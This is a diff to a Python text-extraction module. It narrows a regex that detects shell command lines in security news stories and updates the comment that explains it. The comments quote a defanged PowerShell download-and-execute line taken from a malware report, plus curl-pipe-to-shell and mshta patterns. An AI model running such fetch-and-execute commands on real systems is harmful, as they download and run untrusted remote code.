@@ -76,21 +76,20 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 # The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
 # heading: a line that opens on none is spared their patterns.
 _OPENING_CHARACTERS = 4
-# A security or tech desk's command line set between the story's paragraphs, as the attack or the fix runs
-# it (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL
-# https://... | sh", "sudo apt-get install ...", "mshta.exe hxxps://..."): a shell's program in lower case, a
-# switch after it ("-w", "/c", "--version"), an address (defanged or not) or the program's own word ("apt-get
-# install"), and no stop closing the line. Code, which the
-# reader has in the page's box and which no summary reads as a sentence; the story's sentence about the
-# command opens on a capital and runs on in words ("PowerShell then downloads a script ...").
+# A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
+# (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
+# sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
+# address (defanged or not), and no stop closing the line. Code, which no summary reads as a sentence; the
+# story's sentence about the command opens on a capital and runs on in words ("PowerShell then downloads a
+# script ..."). Not a program's own word after it ("npm install tidepool@3.2"): a project's release post shows
+# its reader that line as its news (a page of the extraction bench's gold keeps it).
 _COMMANDS = (
     "powershell", "pwsh", "cmd", "curl", "wget", "iwr", "iex", "mshta", "rundll32", "regsvr32", "certutil",
     "bitsadmin", "msiexec", "sudo", "bash", "chmod", "git", "npm", "pip", "pip3", "apt", "apt-get", "brew",
     "docker", "kubectl",
 )  # fmt: skip
 _COMMAND_LINE = re.compile(
-    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|h(?:tt|xx)ps?://|(?:install|clone|run|pull|update|upgrade)"
-    r" )[^\n]*+"
+    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|h(?:tt|xx)ps?://)[^\n]*+"
 )
 _COMMAND_LINE_MAX_CHARACTERS = 400
 _OPENINGS = frozenset(
